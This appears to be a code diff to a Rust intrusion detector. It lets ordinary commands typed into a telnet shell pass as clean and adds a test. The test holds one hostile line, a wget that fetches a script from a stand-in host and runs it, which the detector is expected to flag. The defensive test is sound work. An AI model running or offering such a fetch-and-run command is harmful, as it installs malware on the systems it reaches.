@@ -15,6 +15,10 @@ use sha2::{Digest, Sha256};
 
 /// Classes whose rules hold in any text.
 const TEXT_CLASSES: [Class; 3] = [Class::WebIot, Class::WebJava, Class::WebRce];
+/// Of what is typed into a shell, where commands are what is expected and no injection.
+const SHELL_CLASSES: [Class; 2] = [Class::WebIot, Class::WebJava];
+/// The field in which parsers give such text.
+const SHELL_FIELD: &str = "shell";
 /// Text judged of one field; longer fields are judged by their beginning.
 const TEXT_MAX_BYTES: usize = 4 << 10;
 
@@ -78,7 +82,8 @@ impl Detector {
         views.each(ValueKind::Body, text, |view| {
             self.look(view, (ValueKind::Body, field.as_bytes()), &request, (candidates, found));
         });
-        found.retain(|finding: &Found| TEXT_CLASSES.contains(&finding.class));
+        let classes: &[Class] = if field == SHELL_FIELD { &SHELL_CLASSES } else { &TEXT_CLASSES };
+        found.retain(|finding: &Found| classes.contains(&finding.class));
         if found.is_empty() {
             return Verdict::Clean;
         }
@@ -121,6 +126,18 @@ mod tests {
         {
             assert_eq!(judge(honest), Verdict::Clean, "{}", honest.escape_ascii());
         }
+    }
+
+    #[test]
+    fn commands_in_a_shell_are_no_injection_and_a_malware_fetch_is_one() {
+        let detector = Detector::new(&Settings::default()).unwrap();
+        let server = "203.0.113.10:23".parse().unwrap();
+        let judge =
+            |text: &[u8]| detector.judge_text("telnet", ("shell", text), server, &mut Scratch::default());
+        for honest in [&b"cd /var/log; cat messages | grep error"[..], b"rm -rf /tmp/old; uname -a"] {
+            assert_eq!(judge(honest), Verdict::Clean, "{}", honest.escape_ascii());
+        }
+        assert!(matches!(judge(b"cd /tmp; wget http://192.0.2.9/bins.sh; sh bins.sh"), Verdict::Attack(_)));
     }
 
     #[test]
